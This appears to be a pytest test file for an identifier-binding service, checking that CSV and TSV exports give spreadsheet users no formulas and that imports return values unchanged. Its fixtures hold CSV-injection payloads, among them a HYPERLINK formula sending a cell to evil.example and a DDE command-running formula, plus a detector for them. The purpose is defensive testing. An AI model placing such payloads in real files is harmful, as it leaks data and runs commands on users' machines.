"""No file for people has a formula, by any door, and an import of it gives each value back unchanged."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from ararat.bindings.collection import Bindings
from ararat.bindings.imports.exporting import export_table
from ararat.bindings.imports.importing import import_table
from ararat.bindings.names.fields import Fields
from ararat.cli import main
from ararat.middleware import open_bindings
from tests.waiting import until
from tests.webapp.api.conftest import imports_of
from tests.webapp.desk.conftest import Browser, Desk

pytestmark = pytest.mark.usefixtures("workbooks_here")

ROOT = Path(__file__).parents[4]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Error: click")'
TEXTS = {
    "erc.what": FORMULA,
    "erc.who": "@SUM(A1)",
    "erc.when": "-1789",
    "erc.where": "40.7, -74.0; =1+1",
    "dc.title": "\uff1d1+1",
    "dc.description": "Map;\n=cmd|' /C calc'!A0",
    "dc.source": "'=1+1",
    "dc.subject": '"=1+1"',
    "dc.relation": '="00042"',
    "dc.rights": "'ark:12345/x5",
    "dc.type": "Tabs\t=2+2",
    "dc.format": "ordinary, -text; 'quoted'",
}
NAMES = ("ark:12345/x5f", "ark:12345/x5g")
MINT = {"names": "mint", "shoulder": "ark:12345/x5", "state": "live"}


def fill(bindings: Bindings) -> None:
    resources = dict(zip(NAMES, ("+49 30 1234", "a;-1+2"), strict=True))
    for name, resource in resources.items():
        bindings.bind(name, f"https://example.org/{name}", resource=resource, metadata=TEXTS, actor="jane")
    bindings.withdraw(NAMES[1], reason="=1+1; @x", actor="jane")
    bindings.prefixes.set("ark:12345/x5", what="+Maps; =1", actor="ada")


def formulas(text: str, own: str = ",") -> list[str]:
    """Return the cells of a file, and of its text separated by another character, that a program would run."""
    found = []
    for delimiter in ",;|\t":
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
            for cell in row:
                beginning = unicodedata.normalize("NFKC", cell.lstrip(' "\u200b\ufeff\t\r\n'))[:1]
                if (beginning and beginning in "=+-@") or (cell.strip() and cell[0] in "\t\r" and delimiter == own):
                    found.append(cell)
    return found


def content(bindings: Bindings) -> list[dict[str, Any]]:
    left_out = ("changed", "created", "revision", "recorded", "once_public", "recorded_at")
    found = (bindings.lookup(name) for name in NAMES)
    return [{key: value for key, value in each.as_dict().items() if key not in left_out} for each in found if each]


@pytest.fixture
def filled(desk: Desk) -> Desk:
    fill(desk.bindings)
    return desk


@pytest.fixture
def copied(tmp_path: Path) -> Callable[[bytes], Bindings]:
    """copied(table) returns a new database with the names of a table."""

    def copy(table: bytes, format: str = "csv") -> Bindings:
        bindings = open_bindings(tmp_path / f"copy-{len(list(tmp_path.iterdir()))}.sqlite", create=True)
        summary = import_table(bindings, io.BytesIO(table), format=format, encoding=None)  # type: ignore[arg-type]
        assert (summary.refused, summary.written) == ([], True)
        return bindings

    return copy


def lists(desk: Desk) -> Iterator[str]:
    """Yield the address of each list of the desk as CSV."""
    for rule in desk.app.url_map.iter_rules():
        if rule.endpoint.startswith("desk.") and "csv" in rule.rule and "tables" not in rule.rule:
            path = re.sub(r"<any\(csv, jsonl\):form>", "csv", rule.rule)
            yield re.sub(r"<int:\w+>", "1", path)


@pytest.mark.one_setup
@pytest.mark.parametrize("separator", ["comma", "semicolon", "tab"])
def test_no_list_of_the_desk_has_a_formula(filled: Desk, ada: Browser, jane: Browser, separator: str) -> None:
    jane.post("/desk/names/new", {"target": "=1"})
    paths = list(lists(filled))
    assert len(paths) > 8
    for path in paths:
        answer = ada.get(f"{path}?separator={separator}")
        if answer.status_code != 404:
            assert (path, answer.mimetype, answer.text[:1]) == (path, "text/csv", "\ufeff")
            assert (path, formulas(answer.text)) == (path, [])


@pytest.mark.one_setup
@pytest.mark.parametrize("separator", ["comma", "semicolon", "tab"])
@pytest.mark.parametrize("path", ["/desk/names.csv", "/desk/everything.csv"])
def test_an_import_of_a_list_gives_the_values_back(
    filled: Desk, ada: Browser, copied: Callable[..., Bindings], path: str, separator: str
) -> None:
    table = ada.get(f"{path}?separator={separator}").data
    with copied(table) as copy:
        assert content(copy) == content(filled.bindings)


@pytest.mark.one_setup
@pytest.mark.parametrize("bom", [True, False])
@pytest.mark.parametrize(("format", "delimiter"), [("csv", ","), ("csv", ";"), ("tsv", "\t"), ("jsonl", None)])
def test_an_import_of_an_export_gives_the_values_back(
    filled: Desk, copied: Callable[..., Bindings], bom: bool, format: Any, delimiter: str | None
) -> None:
    table = io.BytesIO()
    export_table(filled.bindings, table, format=format, delimiter=delimiter, bom=bom)
    if format != "jsonl":
        assert table.getvalue().startswith(b"\xef\xbb\xbf") is bom
        assert (formulas(table.getvalue().decode()) == []) is bom
        # Programs read the values as they are.
        assert (FORMULA.replace('"', '""') in table.getvalue().decode().replace("'=HYPER", "")) is not bom
    with copied(table.getvalue(), format) as copy:
        assert content(copy) == content(filled.bindings)


@pytest.mark.one_setup
@pytest.mark.parametrize("options", [("--bom",), ("--bom", "--delimiter", ";"), ()])
def test_the_command_exports_formulas_only_for_programs(
    filled: Desk, tmp_path: Path, copied: Callable[..., Bindings], options: tuple[str, ...]
) -> None:
    file = tmp_path / "names.csv"
    done = CliRunner().invoke(main.main, ["export", *options, "--database", filled.bindings.location, str(file)])
    assert done.exit_code == 0, done.output
    assert (formulas(file.read_text("utf-8")) == []) is bool(options)
    with copied(file.read_bytes()) as copy:
        assert content(copy) == content(filled.bindings)


@pytest.mark.one_setup
@pytest.mark.parametrize("bom", [True, False])
@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_the_file_of_an_export_has_formulas_only_for_programs(
    filled: Desk, ada: Browser, copied: Callable[..., Bindings], bom: bool, format: str
) -> None:
    secret = filled.accounts.tokens.create("ada", "robot")[1]
    robot = {"Authorization": f"Bearer {secret}"}
    started = ada.client.post("/api/v1/exports", json={"format": format, "bom": bom}, headers=robot)
    assert started.json is not None
    number, known = started.json["number"], imports_of(filled.app).exports
    until(lambda: (job := known.jobs.get(number)) is not None and job.is_finished)
    of_program = ada.client.get(f"/api/v1/exports/{number}/file", headers=robot, buffered=True)
    of_person = ada.get(f"/desk/exports/{number}", buffered=True)
    for answer, is_for_people in ((of_program, bom), (of_person, True)):
        assert answer.text.startswith("\ufeff") is is_for_people
        assert (formulas(answer.text) == []) is is_for_people
        with copied(answer.data, format) as copy:
            assert content(copy) == content(filled.bindings)


@pytest.mark.one_setup
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_table_with_formulas_comes_back_without_them_and_with_its_values(
    desk: Desk, jane: Browser, preview: Any, import_all: Any, separator: str
) -> None:
    line = io.StringIO(newline="")
    rows = csv.writer(line, delimiter=separator)
    rows.writerows([["=Report", "", ""], ["Inventarnummer", "Titel", "Weblink"]])
    titles = [FORMULA, "a;=1", "'=1+1", '="00042"', " @x", "Map", "b, -c\nd", "\uff0b1"]
    rows.writerows([f"K {number}", title, f"https://example.org/{number}"] for number, title in enumerate(titles))
    rows.writerows([["=wrong", "=2", "no address"], ["", "", ""]])
    path, _ = preview(jane, line.getvalue(), **MINT)
    import_all(jane, path)
    for file in ("names.table", "refused.csv", "report.csv"):
        answer = jane.get(f"{path}/{file}")
        assert answer.status_code == 200
        found = [
            cell for cell in formulas(answer.text) if not re.fullmatch('(="00042"|.*,="00042".*|="00042".*)', cell)
        ]
        assert (file, found) == (file, [])
    returned = jane.get(f"{path}/names.table").text.removeprefix("\ufeff")
    kept = [row for row in csv.reader(io.StringIO(returned, newline=""), delimiter=separator) if row[0][:2] == "K "]
    assert kept[5][1] == "Map"
    assert {row[-1][:12] for row in kept} == {"ark:12345/x5"}
    recorded = {each.resource: each.metadata["erc.what"] for each in desk.bindings.list_names().names}
    before = {f"K {number}": " ".join(text.split()) for number, text in enumerate(titles)}
    assert recorded == before | {"K 2": "=1+1", "K 3": "00042"}
    # The table that came back is imported again: nothing changes.
    path, _ = preview(jane, returned, **MINT)
    import_all(jane, path)
    again = {each.resource: each.metadata["erc.what"] for each in desk.bindings.list_names().names}
    assert again == recorded
    workbook = jane.get(f"{path}/names.xlsx").data
    sheet = load_workbook(io.BytesIO(workbook)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}


def test_a_report_of_an_import_has_no_formula_and_can_be_imported(tmp_path: Path) -> None:
    table, report = tmp_path / "names.csv", tmp_path / "report.csv"
    with table.open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(["identifier", "target", "what", "where"])
        rows.writerow(["ark:12345/x1", "https://example.org/1", FORMULA, "a;@x"])
        rows.writerow(["=1+1", "https://example.org/2", "'=1", "-1"])
        rows.writerow(["ark:12345/x3", "no address", "\t=1", "x; =2"])
    arguments = ["import", "--report", str(report), "--database", f"sqlite:///{tmp_path}/names.sqlite", str(table)]
    assert CliRunner().invoke(main.main, arguments).exit_code == 1
    text = report.read_text("utf-8")
    assert text.startswith("\ufeff")
    assert formulas(text) == []
    corrected = text.replace("'=1+1", "ark:12345/x2").replace("no address", "https://example.org/3")
    with open_bindings(tmp_path / "corrected.sqlite", create=True) as bindings:
        file = tmp_path / "corrected.csv"
        file.write_text(corrected, "utf-8")
        arguments = ["import", "--ignore-unknown", "--database", bindings.location, str(file)]
        assert CliRunner().invoke(main.main, arguments).exit_code == 0
        found = [bindings.lookup(name) for name in ("ark:12345/x2", "ark:12345/x3")]
        assert [dict(each.metadata) for each in found if each] == [
            {"erc.what": "=1", "erc.where": "-1"},
            {"erc.what": "=1", "erc.where": "x; =2"},
        ]


def test_one_module_writes_lines_of_csv() -> None:
    folders = [each for each in ROOT.iterdir() if (each / "__init__.py").exists() and each.name != "tests"]
    files = [file for folder in folders for file in folder.rglob("*.py")]
    found = {file.name for file in files if re.search(r"csv\.(?:writer|DictWriter)", file.read_text("utf-8"))}
    assert found == {"delimited.py"}


def test_the_fields_of_a_name_are_those_of_the_matrix() -> None:
    assert Fields(metadata=TEXTS).metadata == TEXTS
